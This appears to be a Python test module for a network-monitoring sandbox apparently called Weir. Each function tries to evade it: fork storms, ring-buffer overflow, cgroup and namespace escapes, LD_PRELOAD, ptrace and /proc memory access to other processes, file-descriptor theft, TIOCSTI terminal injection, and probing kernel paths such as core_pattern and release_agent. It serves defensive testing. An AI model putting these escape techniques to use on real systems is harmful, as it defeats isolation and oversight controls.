"""Away from one's own identity: children, cgroups, namespaces, privilege, other programs."""
from __future__ import annotations

import contextlib
import ctypes
import fcntl
import os
import socket
import struct
import subprocess
import threading
import time
from pathlib import Path

from .common import WAIT, Where, called, collected, in_child, libc, say, was_the_bystander
from .streams import plain_ipv4

NEWUSER, NEWNET = 0x10000000, 0x40000000      # CLONE_*
STORM = 200                           # children, two connects each
FULL = 20_000                         # connects that are recorded and go nowhere: more than the ring holds


def double_fork(token: bytes, to: Where) -> None:
    in_child(lambda: in_child(lambda: plain_ipv4(token, to)))


def new_session(token: bytes, to: Where) -> None:
    def leave() -> None:
        os.setsid()
        in_child(lambda: plain_ipv4(token, to))

    in_child(leave)


def thread_of_dead_leader(token: bytes, to: Where) -> None:
    """The main thread ends first; another one connects."""

    def later() -> None:
        time.sleep(0.2)
        try:
            plain_ipv4(token, to)
            os._exit(0)
        except OSError as error:
            print(error, flush=True)
            os._exit(1)

    def leader() -> None:
        threading.Thread(target=later).start()
        libc.syscall(60, 0)                                # exit(2): this thread only
    in_child(leader)


def fork_storm(token: bytes, to: Where) -> None:
    """Children that connect at once, and children of theirs that do when their parent has gone."""
    for _ in range(STORM):
        if os.fork() == 0:
            os.fork()
            with contextlib.suppress(OSError), socket.socket() as s:
                s.settimeout(0.5)
                s.connect((to.host4, to.port))
                s.sendall(token)
            os._exit(0)
    for _ in range(STORM):
        os.wait()
    plain_ipv4(token, to)


def full_ring(token: bytes, to: Where) -> None:
    """So many connects that what Weir writes them down in is full; then one more."""
    with socket.socket() as s:
        for _ in range(FULL):
            s.connect_ex(("127.0.0.1", to.listener))
            libc.connect(s.fileno(), ctypes.create_string_buffer(16), 16)
    plain_ipv4(token, to)


def leave_cgroup(token: bytes, to: Where) -> None:
    """Into the root of the hierarchy, by every door that is open, then connect."""
    for root in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs"):
        try:
            with open(root, "w") as procs:
                procs.write("0")
        except OSError as error:
            print(root, error, flush=True)
    plain_ipv4(token, to)


def static_binary(token: bytes, to: Where) -> None:
    """No libc to preload something into, no interpreter."""
    _program([os.path.abspath("static")], token, to, os.environ)


def preloaded(token: bytes, to: Where) -> None:
    """LD_PRELOAD of a library that makes the system calls itself, in a program that Weir's list may trust."""
    _program(["/bin/true"], token, to, dict(os.environ) | {"LD_PRELOAD": os.path.abspath("preload.so")})


def _program(command: list[str], token: bytes, to: Where, environment: object) -> None:
    said = dict(environment) | {"TO": to.host4, "PORT": str(to.port), "TOKEN": token.decode()}  # type: ignore[call-overload]
    if subprocess.run(command, env=said).returncode != 0:
        raise OSError(f"{command[0]} did not get through")


def set_uid_root(token: bytes, to: Where) -> None:
    """A program that belongs to root and has the set-uid bit: with uid 0 core_pattern and much else is open."""
    if subprocess.run([os.path.abspath("suid")]).returncode != 0:
        raise OSError("no uid 0")


def user_namespace(token: bytes, to: Where) -> None:
    """uid 0 of an own user namespace: the capabilities that most other doors ask for."""
    called(libc.unshare(NEWUSER), "unshare")


def user_namespace_by_clone(token: bytes, to: Where) -> None:
    pid = called(libc.syscall(56, NEWUSER | 17, 0, 0, 0, 0), "clone")      # SIGCHLD
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)


def network_namespace(token: bytes, to: Where) -> None:
    called(libc.unshare(NEWNET), "unshare")


def set_namespace(token: bytes, to: Where) -> None:
    """Into a network namespace by its file, then connect."""
    fd = os.open("/proc/self/ns/net", os.O_RDONLY)
    called(libc.setns(fd, NEWNET), "setns")
    plain_ipv4(token, to)


def tun(token: bytes, to: Where) -> None:
    """An interface of one's own, whose packets no socket sends."""
    fd = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(fd, 0x400454CA, struct.pack("16sH22x", b"weirtest%d", 0x1002))     # TUNSETIFF, IFF_TAP|IFF_NO_PI


def type_into_terminal(token: bytes, to: Where) -> None:
    """TIOCSTI: what is pushed into the terminal is read by the shell that reads there next."""
    _master, slave = os.openpty()

    def inside() -> None:
        os.setsid()
        fcntl.ioctl(slave, 0x540E, 0)                     # TIOCSCTTY
        fcntl.ioctl(slave, 0x5412, b"x")

    in_child(inside)


def trace_outside(token: bytes, to: Where) -> None:
    called(libc.ptrace(0x4206, to.bystander, 0, 0), "ptrace")     # PTRACE_SEIZE
    was_the_bystander(to)


def memory_outside(token: bytes, to: Where) -> None:
    with open(f"/proc/{to.bystander}/mem", "rb"):
        was_the_bystander(to)
        print("opened", flush=True)


def read_outside(token: bytes, to: Where) -> None:
    """process_vm_readv(2) of a process of the same user: EFAULT says that only the address was wrong."""
    vector = struct.pack("=QQ", ctypes.addressof(ctypes.create_string_buffer(16)), 16)
    if libc.process_vm_readv(to.bystander, vector, 1, struct.pack("=QQ", 4096, 16), 1, 0) < 0 and \
            ctypes.get_errno() != 14:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    was_the_bystander(to)


def take_descriptor(token: bytes, to: Where) -> None:
    """pidfd_getfd(2): a connection of another process of the same user."""
    pidfd = os.pidfd_open(to.bystander)
    with socket.socket(fileno=called(libc.syscall(438, pidfd, to.held, 0), "pidfd_getfd")) as s:
        s.settimeout(WAIT)
        say(s, token)


def unfiltered_neighbour(token: bytes, to: Where) -> None:
    """A process that can be traced and has no system-call filter makes the calls that are refused here."""
    found = []
    for one in Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            if one.name.isdigit() and "\nSeccomp:\t0" in (one / "status").read_text() and int(one.name) != os.getpid():
                called(libc.ptrace(0x4206, int(one.name), 0, 0), "ptrace")     # PTRACE_SEIZE; detached at the end
                found.append(one.name)
                break
    if not found:
        raise OSError("every process has a filter, or may not be traced")
    print("without a filter:", found, flush=True)


def shared_memory(token: bytes, to: Where) -> None:
    """System V: no path, no name, only a number."""
    called(libc.shmget(to.memory, 0, 0), "shmget")


def files_of_others(token: bytes, to: Where) -> None:
    """/proc/PID/root and cwd of every process that can be seen: a way to files outside the view."""
    found = []
    for one in Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            if one.name.isdigit() and int(one.name) != os.getpid():
                found += [f"{place} -> {(one / place).resolve()}" for place in ("root", "cwd")
                          if (one / place / "run/netns").exists() or ((one / place / "etc/shadow-").exists() and
                          not Path("/etc/shadow-").exists())]
    if not found:
        raise OSError("none")
    print(found, flush=True)


KERNEL_DOORS = (
    "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sysrq-trigger",
    "/proc/sys/fs/binfmt_misc/register", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/conf/all/route_localnet",
    "/sys/kernel/uevent_helper", "/sys/kernel/mm/ksm/run", "/sys/fs/cgroup/release_agent", "/proc/kcore", "/dev/mem",
    "/dev/kmsg", "/sys/kernel/debug/tracing/kprobe_events", "/sys/kernel/tracing/kprobe_events",
)


def kernel_doors(token: bytes, to: Where) -> None:
    """What root writes to become more than root.  Opened for writing, nothing is written."""
    found = []
    for path in KERNEL_DOORS:
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY))
            found.append(path)
    if not found:
        raise OSError("none of them")
    print("open for writing:", found, flush=True)


TECHNIQUES = collected(
    double_fork, new_session, thread_of_dead_leader, fork_storm, leave_cgroup, static_binary, preloaded, set_uid_root,
    user_namespace, user_namespace_by_clone, network_namespace, set_namespace, tun, type_into_terminal, trace_outside,
    memory_outside, read_outside, take_descriptor,
    unfiltered_neighbour, shared_memory, files_of_others, kernel_doors, full_ring)
